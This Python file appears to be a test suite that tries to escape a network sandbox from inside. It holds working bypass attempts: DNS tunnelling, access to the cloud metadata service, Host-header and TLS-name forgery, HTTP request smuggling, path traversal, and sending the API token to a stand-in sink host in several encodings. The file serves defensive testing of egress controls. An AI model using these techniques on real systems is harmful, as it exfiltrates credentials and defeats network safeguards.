"""Ways out of a fenced sandbox, tried from inside with real sockets and programs.

`python attacks.py RUN`: each case gets a mark `RUN` + number + `x`, tries, and what it was told is printed as a line of JSON.
Whether it got out is judged outside. The first line of each case says what it tries; what would be an escape is in `CASES`:

heard    the mark reached a server or a name server, or was seen on the wire
flow     a packet was sent to that address and port
secret   a server got the value of the credential with this mark
said     the answer has the value of the credential, or what the case calls proof, in any form"""

from __future__ import annotations

import base64
import concurrent.futures
import gzip
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
from typing import Any, Callable

API, OTHER, FREE = "93.184.215.10", "93.184.215.11", "93.184.215.77"
TOKEN = os.environ.get("API_TOKEN", "")
PATIENCE = 6.0
PROOF = "PROOF-OF-ESCAPE"

Case = Callable[[str], object]
CASES: list[tuple[str, Any, Case]] = []


def case(escapes: Any) -> Callable[[Case], Case]:
    def add(function: Case) -> Case:
        CASES.append((function.__name__.replace("_", "-"), escapes, function))
        return function

    return add


def dial(address: str, port: int) -> socket.socket:
    return socket.create_connection((address, port), PATIENCE)


def rest(stream: Any) -> str:
    """What the other side says until it is silent or gone."""
    said = b""
    try:
        while data := stream.recv(65536):
            said += data
    except OSError:
        pass
    return said.decode("latin-1")


def one(stream: Any) -> str:
    """One answer, so that the connection can be used again."""
    said = b""
    while b"\r\n\r\n" not in said and (data := stream.recv(65536)):
        said += data
    head, _, body = said.partition(b"\r\n\r\n")
    length = 0
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"content-length:"):
            length = int(line.split(b":")[1])
    while len(body) < length and (data := stream.recv(65536)):
        body += data
    return said.decode("latin-1")


def look_up(name: str) -> str:
    """So that its address is known to belong to it."""
    return socket.getaddrinfo(name, 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]


def tls(address: str, name: str | None, port: int = 443, alpn: list[str] | None = None) -> ssl.SSLSocket:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(alpn or ["http/1.1"])
    return context.wrap_socket(dial(address, port), server_hostname=name)


def get(path: str, host: str, *fields: str, method: str = "GET", close: bool = True) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", *fields]
    if close:
        lines.append("Connection: close")
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def secure(address: str, name: str | None, request: bytes) -> str:
    with tls(address, name) as stream:
        stream.sendall(request)
        return rest(stream)


def plain(address: str, request: bytes, port: int = 80) -> str:
    with dial(address, port) as stream:
        stream.sendall(request)
        return rest(stream)


def question(name: str, kind: int) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def ask(server: str, name: str, kind: int, port: int = 53) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(2)
        asking.sendto(question(name, kind), (server, port))
        return asking.recv(4096)


def curl(*words: str) -> str:
    done = subprocess.run(["curl", "-sS", "-i", "-m", "8", *words], capture_output=True, check=False)
    return (done.stdout + done.stderr).decode("latin-1")


# Names


@case("heard")
def dns_denied(mark: str) -> object:
    """Data in a name that no rule allows, by the system's own resolver."""
    return socket.getaddrinfo(f"{mark}.evil.test.example", 443)


@case("heard")
def dns_below_allowed(mark: str) -> object:
    """Data in a name below an allowed one."""
    return socket.getaddrinfo(f"{mark}.api.test.example", 443)


@case("heard")
def dns_other_server(mark: str) -> object:
    """A name server of one's own choice."""
    return ask("9.9.9.9", f"{mark}.evil.test.example", 1)


@case("heard")
def dns_text(mark: str) -> object:
    """Data in a question for another type of record."""
    return ask("8.8.8.8", f"{mark}.api.test.example", 16)


@case(("tcp", "9.9.9.9", 53))
def dns_over_tcp(mark: str) -> object:
    """The same over TCP."""
    asked = question(f"{mark}.evil.test.example", 1)
    with dial("9.9.9.9", 53) as stream:
        stream.sendall(struct.pack(">H", len(asked)) + asked)
        return rest(stream)


@case(("udp", "9.9.9.9", 5353))
def dns_other_port(mark: str) -> object:
    """A name server at a port that is not guarded as one."""
    return ask("9.9.9.9", f"{mark}.evil.test.example", 1, 5353)


@case(("tcp", "9.9.9.9", 853))
def dns_over_tls(mark: str) -> object:
    """DNS over TLS."""
    with tls("9.9.9.9", "dns.quad9.net", 853) as stream:
        return rest(stream)


@case("heard")
def dns_over_https(mark: str) -> object:
    """DNS over HTTPS, at an address that needs no look-up."""
    return secure(API, "dns.google", get(f"/dns-query?name={mark}.evil.test.example", "dns.google"))


@case("said")
def dns_private_answer(mark: str) -> object:
    """An allowed name that leads to this machine: rebinding."""
    return socket.getaddrinfo("rebound.test.example", 80) and PROOF


@case("said")
def dns_ech(mark: str) -> object:
    """A key for encrypted greetings, from the HTTPS record of an allowed name."""
    return PROOF if b"public.ech.example" in ask("8.8.8.8", "api.test.example", 65) else ""


# Addresses


@case("heard")
def address_in_the_clear(mark: str) -> object:
    """An address instead of a name."""
    return plain(FREE, get(f"/{mark}", FREE))


@case("heard")
def address_with_allowed_host(mark: str) -> object:
    """An address that no allowed name has, with an allowed Host."""
    return plain(FREE, get(f"/{mark}", "api.test.example"))


@case("heard")
def address_without_name(mark: str) -> object:
    """TLS that names nobody."""
    return secure(API, None, get(f"/{mark}", API))


@case(("tcp", FREE, 443))
def address_with_forged_name(mark: str) -> object:
    """TLS to an address that the allowed name does not have."""
    return secure(FREE, "api.test.example", get(f"/{mark}", "api.test.example"))


@case("heard")
def metadata(mark: str) -> object:
    """The metadata service of clouds."""
    return plain("169.254.169.254", get(f"/latest/{mark}", "169.254.169.254"))


@case("heard")
def metadata_by_name(mark: str) -> object:
    """The same, by an allowed name that leads there."""
    return plain("169.254.169.254", get(f"/latest/{mark}", "metadata.test.example"))


@case("heard")
def ipv6_mapped(mark: str) -> object:
    """An IPv4 address inside an IPv6 one."""
    return plain(f"::ffff:{FREE}", get(f"/{mark}", FREE))


@case(("tcp", "2606:4700::1111", 80))
def ipv6(mark: str) -> object:
    """IPv6."""
    return plain("2606:4700::1111", get(f"/{mark}", "api.test.example"))


@case("heard")
def private_network(mark: str) -> object:
    """A private network."""
    return plain("10.20.0.5", get(f"/{mark}", "10.20.0.5"))


@case(("tcp", API, 8443))
def other_port(mark: str) -> object:
    """An allowed host at a port that is not."""
    look_up("api.test.example")
    return secure_at(8443, mark)


def secure_at(port: int, mark: str) -> str:
    with tls(API, "api.test.example", port) as stream:
        stream.sendall(get(f"/{mark}", f"api.test.example:{port}"))
        return rest(stream)


@case(("tcp", API, 22))
def ssh(mark: str) -> object:
    """SSH to an allowed host."""
    look_up("api.test.example")
    return plain(API, f"SSH-2.0-{mark}\r\n".encode(), 22)


@case("heard")
def opaque(mark: str) -> object:
    """Bytes that are neither TLS nor HTTP, at an allowed port."""
    look_up("api.test.example")
    return plain(API, f"\x00\x01{mark}\r\n".encode() * 40, 443)


# What is not TCP


@case(("udp", API, 443))
def quic(mark: str) -> object:
    """QUIC to an allowed host."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
        sending.settimeout(0.3)
        sending.sendto(b"\xc3\0\0\0\1" + mark.encode() + bytes(1200), (API, 443))
        return sending.recv(100)


@case("heard")
def udp(mark: str) -> object:
    """A datagram."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
        return sending.sendto(mark.encode(), ("8.8.8.8", 9999))


@case("heard")
def udp_not_dns(mark: str) -> object:
    """A datagram to the port of DNS that is no question."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
        sending.settimeout(0.5)
        sending.sendto(mark.encode() * 4, ("8.8.8.8", 53))
        return sending.recv(100)


@case(("1", "8.8.8.8", 0))
def ping(mark: str) -> object:
    """An echo request."""
    try:
        sending = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    except OSError:
        sending = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    with sending:
        return sending.sendto(b"\x08\x00\xf7\xff\0\0\0\0", ("8.8.8.8", 0))


# Hosts


@case("heard")
def host_denied(mark: str) -> object:
    """A host that no rule allows, at the address of an allowed one."""
    look_up("api.test.example")
    return secure(API, "evil.test.example", get(f"/{mark}", "evil.test.example"))


@case("heard")
def host_in_the_clear(mark: str) -> object:
    """The same without TLS."""
    look_up("api.test.example")
    return plain(API, get(f"/{mark}", "evil.test.example"))


@case("heard")
def host_not_name(mark: str) -> object:
    """An allowed TLS name, another Host."""
    look_up("api.test.example")
    return secure(API, "api.test.example", get(f"/{mark}", "evil.test.example"))


@case("heard")
def host_twice(mark: str) -> object:
    """Two Host fields."""
    look_up("api.test.example")
    return secure(API, "api.test.example", get(f"/{mark}", "api.test.example", "Host: evil.test.example"))


@case("heard")
def host_fronted(mark: str) -> object:
    """An allowed host through another allowed one, whose rule allows less."""
    look_up("other.test.example")
    return secure(OTHER, "other.test.example", get(f"/{mark}", "api.test.example"))


@case("heard")
def host_on_kept_connection(mark: str) -> object:
    """Another Host in the second request of a connection."""
    look_up("api.test.example")
    with tls(API, "api.test.example") as stream:
        stream.sendall(get("/first", "api.test.example", close=False))
        one(stream)
        stream.sendall(get(f"/{mark}", "evil.test.example"))
        return rest(stream)


@case("heard")
def host_on_kept_connection_in_the_clear(mark: str) -> object:
    """The same without TLS."""
    look_up("api.test.example")
    with dial(API, 80) as stream:
        stream.sendall(get("/first", "api.test.example", close=False))
        one(stream)
        stream.sendall(get(f"/{mark}", "evil.test.example"))
        return rest(stream)


@case("heard")
def authority_of_second_stream(mark: str) -> object:
    """Another :authority in the second stream of HTTP/2."""
    from h2.connection import H2Connection

    look_up("api.test.example")
    with tls(API, "api.test.example", alpn=["h2"]) as stream:
        connection = H2Connection()
        connection.initiate_connection()
        for number, (host, path) in ((1, ("api.test.example", "/first")), (3, ("evil.test.example", f"/{mark}"))):
            fields = [(":method", "GET"), (":authority", host), (":scheme", "https"), (":path", path)]
            connection.send_headers(number, fields, end_stream=True)
        stream.sendall(connection.data_to_send())
        stream.settimeout(1.5)
        return rest(stream)


@case("heard")
def connect(mark: str) -> object:
    """CONNECT, as to a proxy."""
    look_up("api.test.example")
    return plain(API, get(f"{mark}.evil.test.example:443", f"{mark}.evil.test.example:443", method="CONNECT"))


@case("heard")
def absolute_form(mark: str) -> object:
    """A whole address in the request's line, as to a proxy."""
    look_up("api.test.example")
    return plain(API, get(f"http://evil.test.example/{mark}", "api.test.example"))


@case("heard")
def smuggled(mark: str) -> object:
    """A second request in what one reader takes for the body of the first."""
    look_up("api.test.example")
    inner = get(f"/{mark}", "evil.test.example")
    body = b"0\r\n\r\n" + inner
    head = get("/first", "api.test.example", "Transfer-Encoding: chunked", f"Content-Length: {len(body)}", method="POST")
    return secure(API, "api.test.example", head + body)


@case("heard")
def smuggled_by_lengths(mark: str) -> object:
    """Two lengths."""
    look_up("api.test.example")
    inner = get(f"/{mark}", "evil.test.example")
    head = get("/first", "api.test.example", "Content-Length: 0", f"Content-Length: {len(inner)}", method="POST", close=False)
    return secure(API, "api.test.example", head + inner)


@case("heard")
def redirected(mark: str) -> object:
    """A redirect of an allowed host to one that is not."""
    # Coded, so that the mark itself is in the second request only.
    there = base64.urlsafe_b64encode(f"https://evil.test.example/{mark}".encode()).decode()
    return curl("-L", "-k", "--resolve", f"evil.test.example:443:{API}", f"https://api.test.example/away?{there}")


@case("heard")
def method(mark: str) -> object:
    """A method that the rule does not allow."""
    return curl("-X", "DELETE", f"https://other.test.example/open/{mark}")


@case("heard")
def path(mark: str) -> object:
    """A path that the rule does not allow, written as one that it allows."""
    return curl("--path-as-is", f"https://other.test.example/open/../{mark}")


@case("heard")
def path_coded(mark: str) -> object:
    """The same, coded."""
    return curl("--path-as-is", f"https://other.test.example/open/%2e%2e/{mark}")


@case("said")
def encrypted_greeting(mark: str) -> object:
    """A TLS greeting with an encrypted part (ECH)."""
    look_up("api.test.example")
    context, sent, got = ssl.create_default_context(), ssl.MemoryBIO(), ssl.MemoryBIO()
    greeting = context.wrap_bio(got, sent, server_hostname="api.test.example")
    try:
        greeting.do_handshake()
    except ssl.SSLWantReadError:
        pass
    record = bytearray(sent.read())
    inner = b"\0" + b"\0\1\0\1" + b"\x05" + b"\0\x20" + bytes(32) + b"\0\x80" + bytes(128)
    extra = b"\xfe\x0d" + struct.pack(">H", len(inner)) + inner
    at = 9 + 2 + 32
    at += 1 + record[at]
    at += 2 + struct.unpack(">H", record[at : at + 2])[0]
    at += 1 + record[at]
    (length,) = struct.unpack(">H", record[at : at + 2])
    record[at : at + 2] = struct.pack(">H", length + len(extra))
    record += extra
    record[3:5] = struct.pack(">H", len(record) - 5)
    record[6:9] = struct.pack(">I", len(record) - 9)[1:]
    with dial(API, 443) as stream:
        stream.sendall(record)
        stream.settimeout(2)
        answer = stream.recv(16)
    # A server's greeting, and not an alert.
    return PROOF if answer[:1] == b"\x16" else answer.hex()


# Credentials


@case("heard")
def token_elsewhere(mark: str) -> object:
    """The credential to a host that may not have it."""
    return curl("-H", f"Authorization: Bearer {TOKEN}", f"https://sink.test.example/{mark}")


@case("heard")
def token_elsewhere_basic(mark: str) -> object:
    """The same as a password."""
    return curl("-u", f"somebody:{TOKEN}", f"https://sink.test.example/{mark}")


@case("heard")
def token_elsewhere_in_body(mark: str) -> object:
    """The same in a body."""
    return curl("-d", f"{mark}={TOKEN}", "https://sink.test.example/")


@case("heard")
def token_elsewhere_compressed(mark: str) -> object:
    """The same in a compressed body."""
    file = f"{mark}.gz"
    with open(file, "wb") as out:
        out.write(gzip.compress(f"{mark} {TOKEN}".encode()))
    return curl("--data-binary", f"@{file}", "-H", "Content-Encoding: gzip", f"https://sink.test.example/{mark}")


@case("secret")
def token_elsewhere_in_pieces(mark: str) -> object:
    """The same in chunks of one byte."""
    look_up("sink.test.example")
    pieces = b"".join(f"1\r\n{letter}\r\n".encode() for letter in f"{mark} {TOKEN}") + b"0\r\n\r\n"
    request = get(f"/{mark}", "sink.test.example", "Transfer-Encoding: chunked", method="POST") + pieces
    return secure(API, "sink.test.example", request)


@case("secret")
def token_elsewhere_reversed(mark: str) -> object:
    """The same written backwards: no more than the placeholder may arrive."""
    return curl("-d", f"{mark}={TOKEN[::-1]}", f"https://sink.test.example/{mark}")


@case("secret")
def token_in_path(mark: str) -> object:
    """The credential in a place that it is not for."""
    return curl(f"https://api.test.example/{mark}/{TOKEN}")


@case("secret")
def token_in_query(mark: str) -> object:
    """The same in a query."""
    return curl(f"https://api.test.example/{mark}?token={TOKEN}")


@case("secret")
def token_in_the_clear(mark: str) -> object:
    """The credential to its own host without TLS."""
    return curl("-H", f"Authorization: Bearer {TOKEN}", f"http://api.test.example/{mark}")


@case("secret")
def token_to_address(mark: str) -> object:
    """The credential to the address of its host, under another name."""
    return curl("-k", "-H", f"Authorization: Bearer {TOKEN}", "-H", "Host: api.test.example", f"https://{API}/{mark}")


@case("secret")
def token_in_frame(mark: str) -> object:
    """The credential in a frame of a WebSocket to a host that may not have it."""
    from websockets.sync.client import connect as open_socket

    with open_socket(f"wss://sink.test.example/{mark}", open_timeout=PATIENCE) as stream:
        stream.send(f"{mark} {TOKEN}")
        return stream.recv(timeout=PATIENCE)


# The credential, said again by its own host


def echo(path: str) -> Case:
    return lambda mark: curl("--compressed", "-H", f"Authorization: Bearer {TOKEN}", f"https://api.test.example/{path}?{mark}")


for encoding in "raw base64 base64-1 base64-2 base64url hex HEX percent json reversed".split():
    CASES.append((f"said-{encoding}", "said", echo(f"said/{encoding}")))
for where in ("packed/gzip", "packed/deflate", "pieces", "slow", "in-header"):
    CASES.append((f"said-{where.replace('/', '-')}", "said", echo(where)))


def main(run: str) -> None:
    def attempt(number: int) -> str:
        name, _, function = CASES[number]
        try:
            said = function(f"{run}{number:03}x")
        except Exception as error:  # noqa: BLE001: being stopped is what is expected
            said = f"{type(error).__name__}: {error}"
        if isinstance(said, bytes):
            said = said.decode("latin-1")
        return json.dumps({"name": name, "said": base64.b64encode(str(said)[:8000].encode()).decode()})

    with concurrent.futures.ThreadPoolExecutor(12) as pool:
        for line in pool.map(attempt, range(len(CASES))):
            print(line, flush=True)


if __name__ == "__main__":
    main(sys.argv[1])
